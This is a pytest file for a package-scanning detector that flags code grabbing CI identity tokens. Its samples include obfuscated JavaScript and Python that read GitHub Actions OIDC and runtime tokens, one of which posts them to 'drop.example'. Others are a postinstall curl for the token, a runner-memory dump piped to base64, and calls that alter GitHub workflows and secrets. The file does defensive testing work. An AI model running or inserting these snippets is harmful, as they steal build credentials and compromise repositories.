"""Reaching for a build's identity is told; tools whose business that is are told softly, ordinary tokens not at all."""

from __future__ import annotations

import pytest

from app.core.package import Package
from app.core.specimen import ArtifactFacts, Specimen
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import ci_token_misuse, self_propagation


def severities(artifact: ArtifactFacts, before: ArtifactFacts | None = None) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(ci_token_misuse, artifact, before)]


JAVASCRIPT = [
    "const u = process.env.ACTIONS_ID_TOKEN_REQUEST_URL; fetch(u);",
    "const u = process.env['ACTIONS_ID_TOKEN' + '_REQUEST_TOKEN']; fetch('https://drop.example/' + u);",
    "const { ACTIONS_RUNTIME_TOKEN: t } = process.env; fetch('https://drop.example/', { headers: { t } });",
    "const e = process['en' + 'v']; const key = `CI_JOB_${'JWT'}`; module.exports = e[key];",
    "const { env } = require('process'); module.exports = env.CIRCLE_OIDC_TOKEN;",
]
PYTHON = [
    "import os\nTOKEN = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN']\n",
    "from os import getenv as g\nTOKEN = g('ACTIONS_RUNTIME' + '_TOKEN')\n",
    "e = getattr(__import__('os'), 'environ')\nTOKEN = e.get('CI_JOB_JWT_V2')\n",
    "import os\nopen(os.path.join('/proc', str(pid), 'mem'), 'rb').read()\n",
    "import glob, re\nfor p in glob.glob('/proc/*/cmdline'):\n    if 'Runner.Worker' in open(p).read() and '/proc/' in p:\n        print(p)\n",
]


class TestAlarm:
    @pytest.mark.parametrize("source", JAVASCRIPT)
    def test_the_ways_of_javascript(self, source: str) -> None:
        assert severities(npm({"index.js": source}), npm({"index.js": ""})) == ["high"]
        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]

    @pytest.mark.parametrize("source", PYTHON)
    def test_the_ways_of_python(self, source: str) -> None:
        before = wheel({"imgpress/__init__.py": ""})
        assert set(severities(wheel({"imgpress/__init__.py": source}), before)) == {"high"}
        assert set(severities(sdist({"setup.py": source}))) == {"high"}

    def test_the_memory_of_the_program_that_runs_the_build_is_high_in_a_package_that_is_new(self) -> None:
        assert severities(wheel({"imgpress/__init__.py": PYTHON[3]})) == ["high"]

    @pytest.mark.parametrize(
        "command",
        [
            'curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL"',
            "cat /proc/$(pgrep -f Runner.Worker)/mem | base64",
        ],
    )
    def test_the_ways_of_a_shell(self, command: str) -> None:
        assert set(severities(npm(scripts={"postinstall": command}))) == {"high"}

    def test_it_says_what_it_asks_for_and_shows_the_line(self) -> None:
        (found,) = findings(ci_token_misuse, npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"}))
        assert told([found]) == ["high: its install step asks for an identity token of GitHub Actions"]
        assert places(found) == ["package.json:5", "a.js:1"]

    def test_a_workflow_that_an_install_step_writes_is_told_by_another_rule(self) -> None:
        source = "require('fs').writeFileSync('.github/workflows/x.yml', 'on: push');"
        artifact = npm({"a.js": source}, scripts={"postinstall": "node a.js"})
        assert findings(ci_token_misuse, artifact) == []
        assert [found.severity for found in findings(self_propagation, artifact)] == ["critical"]

    @pytest.mark.parametrize(
        "call",
        [
            "fetch('https://api.github.com/user/repos', { method: 'POST', body });",
            "fetch(`https://api.github.com/repos/${r}/contents/.github/workflows/x.yml`, { method: 'PUT', body });",
            "require('axios').put(`https://api.github.com/repos/${r}/actions/secrets/X`, body);",
            "fetch(`https://api.github.com/repos/${r}/actions/runners/registration-token`, { method: 'POST' });",
        ],
    )
    def test_changing_what_stands_at_github_is_high_in_an_install_step_and_medium_in_code(self, call: str) -> None:
        artifact = npm({"a.js": call}, scripts={"postinstall": "node a.js"})
        words = "changes repositories, workflows or secrets at GitHub"
        by_either = findings(ci_token_misuse, artifact) or findings(self_propagation, artifact)
        assert [one.severity for one in by_either] in (["high"], ["critical"])
        assert told(findings(ci_token_misuse, npm({"index.js": call}))) == [f"medium: its code {words}"]

    def test_what_spreads_the_code_is_told_by_the_rule_for_that_alone(self) -> None:
        call = "fetch('https://api.github.com/user/repos', { method: 'POST', body });"
        artifact = npm({"a.js": call}, scripts={"postinstall": "node a.js"})
        assert findings(ci_token_misuse, artifact) == []
        assert [one.severity for one in findings(self_propagation, artifact)] == ["critical"]

    def test_a_tool_for_builds_that_does_so_when_it_is_installed_is_high_as_well(self) -> None:
        artifact = npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"})
        (found,) = ci_token_misuse.detect(Specimen(Package.parse("npm/@actions/core@1.11.0"), artifact))
        assert found.severity == "high"


class TestInnocentTwin:
    @pytest.mark.parametrize("path", ["user", "repos/a/b/issues", "repos/a/b/contents/README.md", "repos/a/b/releases"])
    def test_a_client_that_reads_from_github_is_not_told(self, path: str) -> None:
        assert severities(npm({"index.js": f"fetch('https://api.github.com/{path}');"})) == []

    @pytest.mark.parametrize(
        "name",
        ["npm/@actions/core@1.11.0", "npm/@sigstore/sign@3.0.0", "npm/semantic-release@24.0.0", "npm/npm@10.0.0"],
    )
    def test_a_tool_for_builds_is_only_monitored(self, name: str) -> None:
        """The shape of the toolkit of GitHub Actions: it asks for the token when a workflow tells it to."""
        source = """
class OidcClient {
  static getRequestToken() {
    const token = process.env['ACTIONS_ID_TOKEN_REQUEST_TOKEN'];
    if (!token) throw new Error('Unable to get ACTIONS_ID_TOKEN_REQUEST_TOKEN env variable');
    return token;
  }
}
exports.OidcClient = OidcClient;
"""
        found = list(ci_token_misuse.detect(Specimen(Package.parse(name), npm({"index.js": source}))))
        assert [str(one.severity) for one in found] == ["medium"]

    @pytest.mark.parametrize("source", JAVASCRIPT)
    def test_code_of_a_package_that_is_new_here_is_only_monitored(self, source: str) -> None:
        """The shape of clients that publish without a password, as huggingface_hub does."""
        assert severities(npm({"index.js": source})) == ["medium"]

    def test_a_generator_of_projects_that_writes_workflows_is_only_monitored(self) -> None:
        source = "const fs = require('fs'); module.exports = (dir) => fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push');"
        assert severities(npm({"index.js": source})) == ["medium"]

    @pytest.mark.parametrize(
        "source",
        [
            "module.exports = Boolean(process.env.CI || process.env.GITHUB_ACTIONS || process.env.GITLAB_CI);",
            "const t = process.env.GITHUB_TOKEN; module.exports = (u) => fetch(u, { headers: { authorization: t } });",
            "module.exports = 'ACTIONS_ID_TOKEN_REQUEST_URL is set by GitHub';",
            "const m = require('fs').readFileSync('/proc/meminfo', 'utf8');",
            "const m = require('fs').readFileSync('/proc/self/maps', 'utf8');",
            "const y = require('fs').readFileSync('.github/workflows/ci.yml', 'utf8');",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(ci_token_misuse, npm({"index.js": source})) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import os\nIS_CI = 'CI' in os.environ\n",
            "def maps(pid):\n    with open(f'/proc/{pid}/smaps') as f:\n        return f.read()\n",
            "import os\n\n\ndef memory(pid):\n    return open('/proc/%d/statm' % pid).read()\n",
        ],
    )
    def test_ordinary_python(self, source: str) -> None:
        assert findings(ci_token_misuse, wheel({"imgpress/__init__.py": source})) == []

    def test_in_a_test_it_is_low(self) -> None:
        assert severities(npm({"test/x.js": JAVASCRIPT[0]})) == ["low"]

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = npm({"index.js": JAVASCRIPT[0]})
        assert [found.new for found in findings(ci_token_misuse, old, old)] == [False]
